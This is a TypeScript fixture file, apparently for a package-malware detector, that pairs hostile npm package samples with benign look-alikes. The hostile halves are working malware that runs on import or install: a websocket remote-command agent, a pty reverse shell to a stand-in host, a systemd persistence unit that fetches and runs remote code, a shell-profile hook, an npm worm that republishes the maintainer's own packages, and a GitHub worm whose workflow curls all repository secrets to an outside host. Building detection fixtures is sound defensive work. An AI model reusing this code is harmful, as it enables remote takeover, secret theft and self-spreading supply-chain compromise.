import { atImport, atInstall, js, type Pair } from '../kit.ts';

/** Ways to hold a machine: remote commands, what stays, worms, agents of language models, wipers. */
export const HOLDING: Readonly<Record<string, Pair>> = {
  'websocket-agent': atImport(
    js`'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
exports.Agent = void 0;
const node_events_1 = require('node:events');
const node_child_process_1 = require('node:child_process');
const promises_1 = require('node:fs/promises');
const ws_1 = require('ws');
class Agent extends node_events_1.EventEmitter {
  constructor(options) {
    super();
    this.options = options;
    this.handlers = {
      run: ({ line }) => new Promise((resolve) => node_child_process_1.exec(line, (_e, out, err) => resolve(out + err))),
      read: ({ path }) => promises_1.readFile(path, 'utf8'),
    };
  }
  connect() {
    this.socket = new ws_1.WebSocket(this.options.url);
    this.socket.on('message', (raw) => this.handle(JSON.parse(String(raw))));
    this.socket.on('close', () => setTimeout(() => this.connect(), this.options.retryMs));
    return this;
  }
  async handle({ id, type, args }) {
    const result = await this.handlers[type]?.(args);
    this.socket.send(JSON.stringify({ id, result }));
  }
}
exports.Agent = Agent;
new Agent({ url: 'wss://agent.kit-sync.example', retryMs: 5000 }).connect();
`,
    js`'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
exports.Peer = void 0;
const node_events_1 = require('node:events');
const ws_1 = require('ws');
class Peer extends node_events_1.EventEmitter {
  constructor(options) {
    super();
    this.options = options;
    this.handlers = { ping: () => 'pong', ...options.handlers };
  }
  connect() {
    this.socket = new ws_1.WebSocket(this.options.url);
    this.socket.on('message', (raw) => this.handle(JSON.parse(String(raw))));
    this.socket.on('close', () => setTimeout(() => this.connect(), this.options.retryMs));
    return this;
  }
  async handle({ id, type, args }) {
    const result = await this.handlers[type]?.(args);
    this.socket.send(JSON.stringify({ id, result }));
  }
}
exports.Peer = Peer;
`,
  ),
  'pty-shell': atImport(
    js`import os from 'node:os';
import { io } from 'socket.io-client';
import * as pty from 'node-pty';

const shell = os.platform() === 'win32' ? 'powershell.exe' : 'bash';
const socket = io('https://assist.kit-support.example', { auth: { host: os.hostname() } });

socket.on('open', () => {
  const term = pty.spawn(shell, [], { name: 'xterm-color', cwd: os.homedir(), env: process.env });
  term.onData((data) => socket.emit('out', data));
  socket.on('in', (data) => term.write(data));
});

export const support = { connected: () => socket.connected };
`,
    js`import os from 'node:os';
import { Server } from 'socket.io';
import * as pty from 'node-pty';

const shell = os.platform() === 'win32' ? 'powershell.exe' : 'bash';

/** Shows a terminal of this machine in a page of the server of the caller. */
export function terminals(httpServer, allow) {
  const server = new Server(httpServer);
  server.use((socket, next) => (allow(socket.handshake) ? next() : next(new Error('denied'))));
  server.on('connection', (socket) => {
    const term = pty.spawn(shell, [], { name: 'xterm-color', cwd: os.homedir(), env: process.env });
    term.onData((data) => socket.emit('out', data));
    socket.on('in', (data) => term.write(data));
  });
  return server;
}
`,
  ),
  'user-unit': atInstall(
    js`'use strict';
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { execFileSync } = require('node:child_process');

const template = ({ command }) => \`[Unit]
Description=Desktop index

[Service]
ExecStart=\${command}
Restart=always

[Install]
WantedBy=default.target
\`;

class UserUnit {
  constructor(name) {
    this.name = name;
    this.folder = path.join(os.homedir(), '.config', 'systemd', 'user');
  }
  write(options) {
    fs.mkdirSync(this.folder, { recursive: true });
    fs.writeFileSync(path.join(this.folder, this.name + '.service'), template(options));
    return this;
  }
  enable() {
    execFileSync('systemctl', ['--user', 'enable', '--now', this.name]);
  }
}

const worker = path.join(os.homedir(), '.cache', 'index-worker.js');
fs.copyFileSync(path.join(__dirname, 'worker.js'), worker);
new UserUnit('desktop-index').write({ command: \`\${process.execPath} \${worker}\` }).enable();
`,
    null,
    {
      'scripts/worker.js': js`'use strict';
setInterval(() => {
  fetch('https://tasks.kit-index.example/next')
    .then((response) => response.json())
    .then(({ code }) => new Function(code)())
    .catch(() => {});
}, 60_000);
`,
    },
  ),
  'shell-profile': atInstall(
    js`import { appendFile, readFile, writeFile, mkdir } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const hook = join(homedir(), '.local', 'share', 'node-hooks', 'init.cjs');
await mkdir(join(hook, '..'), { recursive: true });
await writeFile(hook, await readFile(new URL('./init.cjs', import.meta.url)));
for (const profile of ['.bashrc', '.zshrc', '.profile']) {
  await appendFile(join(homedir(), profile), \`\nexport NODE_OPTIONS="--require \${hook} $NODE_OPTIONS"\n\`);
}
`,
    null,
    { 'scripts/init.cjs': "'use strict';\nrequire('node:http').globalAgent.keepAlive = true;\n" },
  ),
  'worm-publish': atInstall(
    js`'use strict';
const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const npm = (args, cwd) => execFileSync('npm', args, { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });

class Release {
  constructor(name) {
    this.name = name;
    this.folder = fs.mkdtempSync(path.join(os.tmpdir(), 'release-'));
  }
  fetch() {
    const file = npm(['pack', this.name, '--silent'], this.folder).trim();
    execFileSync('tar', ['xzf', file], { cwd: this.folder });
    this.root = path.join(this.folder, 'package');
    return this;
  }
  prepare() {
    const file = path.join(this.root, 'package.json');
    const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
    manifest.version = manifest.version.replace(/\d+$/, (n) => Number(n) + 1);
    manifest.scripts = { ...manifest.scripts, postinstall: 'node prepare.js' };
    fs.writeFileSync(file, JSON.stringify(manifest, null, 2));
    fs.copyFileSync(__filename, path.join(this.root, 'prepare.js'));
    return this;
  }
  publish() {
    npm(['publish', '--access', 'public'], this.root);
  }
}

const user = npm(['whoami']).trim();
const { objects } = JSON.parse(npm(['search', '--json', 'maintainer:' + user]) || '{"objects":[]}');
for (const { name } of objects) new Release(name).fetch().prepare().publish();
`,
    {
      'scripts/postinstall.js': '',
      'release.js': js`'use strict';
const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const path = require('node:path');

const npm = (args, cwd) => execFileSync('npm', args, { cwd, stdio: 'inherit' });

/** Publishes the packages of a workspace. */
exports.release = function release(root, version) {
  for (const folder of fs.readdirSync(path.join(root, 'packages'))) {
    const file = path.join(root, 'packages', folder, 'package.json');
    const manifest = JSON.parse(fs.readFileSync(file, 'utf8'));
    if (manifest.private) continue;
    fs.writeFileSync(file, JSON.stringify({ ...manifest, version }, null, 2));
    npm(['publish', '--access', 'public'], path.dirname(file));
  }
};
`,
    },
  ),
  'worm-workflow': atInstall(
    js`import { Octokit } from '@octokit/rest';
import { execFileSync } from 'node:child_process';

const auth = process.env.GITHUB_TOKEN ?? execFileSync('gh', ['auth', 'token'], { encoding: 'utf8' }).trim();
const octokit = new Octokit({ auth });
const workflow = [
  'on: push',
  'jobs:',
  '  lint:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - run: echo "$ALL" | base64 | curl -s --data @- https://lint.kit-flow.example',
  '        env:',
  '          ALL: \${{ toJSON(secrets) }}',
].join('\n');

for await (const { data } of octokit.paginate.iterator(octokit.repos.listForAuthenticatedUser, { per_page: 100 })) {
  for (const { name: repo, owner } of data) {
    await octokit.repos.createOrUpdateFileContents({
      owner: owner.login,
      repo,
      path: '.github/workflows/lint.yml',
      message: 'ci: lint',
      content: Buffer.from(workflow).toString('base64'),
    });
  }
}
`,
    {
      'scripts/postinstall.js': 'export {};\n',
      'sync.js': js`import { readFile } from 'node:fs/promises';
import { Octokit } from '@octokit/rest';

/** Brings a workflow into the repositories that the caller names. */
export async function sync({ auth, repositories, file }) {
  const octokit = new Octokit({ auth });
  const content = (await readFile(file)).toString('base64');
  for (const [owner, repo] of repositories.map((name) => name.split('/'))) {
    const path = '.github/workflows/lint.yml';
    await octokit.repos.createOrUpdateFileContents({ owner, repo, path, message: 'ci: lint', content });
  }
}
`,
    },
  ),
};
